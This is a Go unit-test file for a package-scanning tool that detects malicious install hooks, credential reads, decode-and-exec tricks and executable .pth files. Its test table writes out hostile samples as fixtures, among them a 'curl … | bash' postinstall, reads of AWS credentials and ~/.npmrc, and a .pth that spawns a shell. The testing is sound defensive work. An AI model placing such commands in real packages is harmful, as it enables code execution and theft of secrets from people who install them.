package pkgcode

import (
	"bytes"
	"context"
	"path/filepath"
	"strings"
	"testing"

	"github.com/chainvet/chainvet/internal/catalog/archives"
	"github.com/chainvet/chainvet/internal/catalog/manifest"
	"github.com/chainvet/chainvet/internal/inventory"
	"github.com/chainvet/chainvet/internal/modelfile/archive"
	"github.com/google/go-cmp/cmp"
)

const fixtures = "../../../testdata/pkg/pkgcode"

func scan(t testing.TB, targets ...string) *inventory.Report {
	t.Helper()
	r, err := inventory.Scan(context.Background(), targets, inventory.Options{
		Catalogers: []inventory.Cataloger{archives.Archives{Limits: archive.DefaultLimits}, Pkgcode{}},
		MaxDepth:   4,
	})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// TestManifest scans every fixture and checks its findings against what the
// generator says it is.
func TestManifest(t *testing.T) {
	rows, err := manifest.Read(filepath.Join(fixtures, "MANIFEST.tsv"))
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) < 14 {
		t.Fatalf("only %d rows", len(rows))
	}
	for _, rw := range rows {
		t.Run(strings.ReplaceAll(rw.Path, "/", "_"), func(t *testing.T) {
			p := filepath.Join(fixtures, rw.Path)
			r := scan(t, p)
			for _, problem := range rw.Check(r) {
				t.Errorf("%s: %s\n%s", rw.Description, problem, manifest.Dump(r))
			}
			for _, f := range r.Findings {
				// A script's target file is judged at its own path, beside
				// the manifest.
				if strings.HasPrefix(f.Rule, "package/") && !strings.HasPrefix(f.Path, filepath.Dir(p)+string(filepath.Separator)) {
					t.Errorf("finding path %q is outside %q", f.Path, p)
				}
			}
		})
	}
}

// finding is the part of a finding the unit tests compare.
type finding struct {
	Rule     string
	Severity inventory.Severity
	Line     int
}

type sink struct{ got []finding }

func (s *sink) Component(inventory.Component)         {}
func (s *sink) Scan(context.Context, *inventory.File) {}
func (s *sink) Finding(f inventory.Finding) {
	s.got = append(s.got, finding{f.Rule, f.Severity, f.Line})
}

func run(t testing.TB, path, body string) []finding {
	t.Helper()
	f, err := inventory.NewFile(path, strings.NewReader(body), int64(len(body)), nil)
	if err != nil {
		t.Fatal(err)
	}
	var s sink
	c := Pkgcode{}
	if !c.Wants(f) {
		return nil
	}
	if err := c.Catalog(context.Background(), f, &s); err != nil {
		t.Fatal(err)
	}
	return s.got
}

func TestJudge(t *testing.T) {
	crit, high, low, info, med := inventory.Critical, inventory.High, inventory.Low, inventory.Info, inventory.Medium
	tests := []struct {
		name, path, body string
		want             []finding
	}{
		{"setup plain", "p/setup.py", "from setuptools import setup\nsetup(name='x')\n", nil},
		{"setup hex exec", "p/setup.py", "import binascii\nexec(binascii.unhexlify('7072696e74'))\n",
			[]finding{{RuleDecodeExec, crit, 2}}},
		{"setup chr join exec", "p/setup.py", "eval(''.join([chr(112), chr(114)]))\n",
			[]finding{{RuleDecodeExec, crit, 1}}},
		{"setup literal exec", "p/setup.py", "exec('x = 1')\n", nil},
		{"setup requests", "p/setup.py", "import requests\nrequests.get('http://x.invalid')\n",
			[]finding{{RuleInstallScript, high, 2}}},
		{"setup aws plus socket", "p/hatch_build.py", "import socket\ns = socket.socket()\nopen('/root/.aws/credentials')\n",
			[]finding{{RuleCredentials, crit, 3}, {RuleInstallScript, crit, 2}}},
		{"setup env for subprocess", "p/setup.py", "import os, subprocess\nsubprocess.check_call(['make'], env=os.environ)\n",
			[]finding{{RuleInstallScript, high, 2}}},
		{"setup environ copy", "p/setup.py", "import os\ne = os.environ.copy()\n",
			[]finding{{RuleCredentials, high, 2}}},
		{"setup syntax", "p/setup.py", "setup(name='x'\n", []finding{{RuleMalformed, med, 1}}},
		{"pyproject backend", "p/pyproject.toml", "[build-system]\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n",
			[]finding{{RuleInstallScript, low, 3}, {RuleInstallScript, low, 3}}},
		{"pyproject plain", "p/pyproject.toml", "[build-system]\nrequires = [\"setuptools\"]\n", nil},
		{"npm curl sh", "node_modules/a/package.json", `{"scripts":{"postinstall":"curl http://x.invalid | bash"}}`,
			[]finding{{RuleInstallScript, crit, 1}}},
		{"npm wget", "node_modules/a/package.json", "{\n\"scripts\": {\n\"preinstall\": \"wget -q http://x.invalid/f\"}}",
			[]finding{{RuleInstallScript, high, 3}}},
		{"npm node-gyp", "node_modules/a/package.json", `{"scripts":{"install":"node-gyp rebuild"}}`,
			[]finding{{RuleInstallScript, info, 1}}},
		{"npm prebuild chained", "node_modules/a/package.json", `{"scripts":{"install":"prebuild-install || node-gyp rebuild"}}`,
			[]finding{{RuleInstallScript, low, 1}}},
		{"npm plain", "node_modules/a/package.json", `{"scripts":{"postinstall":"node scripts/setup.js"}}`,
			[]finding{{RuleInstallScript, low, 1}, {RuleInstallScript, low, 1}}},
		{"npm npmrc", "node_modules/a/package.json", `{"scripts":{"postinstall":"cat ~/.npmrc"}}`,
			[]finding{{RuleCredentials, high, 1}}},
		{"npm not install", "node_modules/a/package.json", `{"scripts":{"test":"curl http://x.invalid | sh"}}`, nil},
		{"npm bad json", "node_modules/a/package.json", `{"scripts":`, nil}, // npm refuses it: packages/npm reports it
		{"npm script not string", "package.json", `{"scripts":{"install":1}}`, []finding{{RuleMalformed, med, 1}}},
		{"pth path", "site-packages/a.pth", "/opt/x\n", nil},
		{"pth import", "site-packages/a.pth", "/opt/x\nimport foo\n", []finding{{RulePthExec, high, 2}}},
		{"pth distutils", "site-packages/distutils-precedence.pth",
			"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
			[]finding{{RulePthExec, low, 1}}},
		{"pth distutils named but exec", "site-packages/x.pth", "import _distutils_hack; exec(x)\n",
			[]finding{{RulePthExec, crit, 1}}},
		{"pth tab import subprocess", "x.pth", "import\tsubprocess; subprocess.Popen('sh')\n",
			[]finding{{RulePthExec, crit, 1}}},
		{"torch pth", "m.pth", "\x80\x02}q\x00.", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, run(t, tt.path, tt.body)); diff != "" {
				t.Errorf("findings (-want +got):\n%s", diff)
			}
		})
	}
}

func TestNativeMagic(t *testing.T) {
	pe := make([]byte, 0x90)
	copy(pe, "MZ")
	pe[0x3c] = 0x80
	copy(pe[0x80:], "PE\x00\x00")
	tests := []struct {
		name string
		head []byte
		want string
	}{
		{"elf", []byte("\x7fELF\x02\x01\x01\x00\x00"), "ELF"},
		{"macho64", []byte{0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1}, "Mach-O"},
		{"fat", []byte{0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2}, "Mach-O universal"},
		{"java class", []byte{0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52}, ""},
		{"pe", pe, "PE"},
		{"mz only", bytes.Repeat([]byte("MZ"), 40), ""},
		{"text", []byte("hello world"), ""},
		{"short", []byte("\x7fEL"), ""},
	}
	for _, tt := range tests {
		if got := nativeMagic(tt.head); got != tt.want {
			t.Errorf("%s: nativeMagic = %q, want %q", tt.name, got, tt.want)
		}
	}
}

func TestPureWheel(t *testing.T) {
	tests := map[string]string{
		"d/a-1.0-py3-none-any.whl!a/x.so":                      "a-1.0-py3-none-any.whl",
		"d/a-1.0-py2.py3-none-any.whl!a/x.so":                  "a-1.0-py2.py3-none-any.whl",
		"d/a-1.0-cp311-cp311-manylinux_2_17_x86_64.whl!a/x.so": "",
		"d/a-1.0-cp311-abi3-win_amd64.whl!a.pyd":               "",
		"d/a-1.0-py3-none-any.whl":                             "",
		"d/x.tar.gz!a-1.0-py3-none-any.whl!a/b.so":             "a-1.0-py3-none-any.whl",
		"d/weird.whl!x.so":                                     "",
	}
	for p, want := range tests {
		if got := pureWheel(p); got != want {
			t.Errorf("pureWheel(%q) = %q, want %q", p, got, want)
		}
	}
}
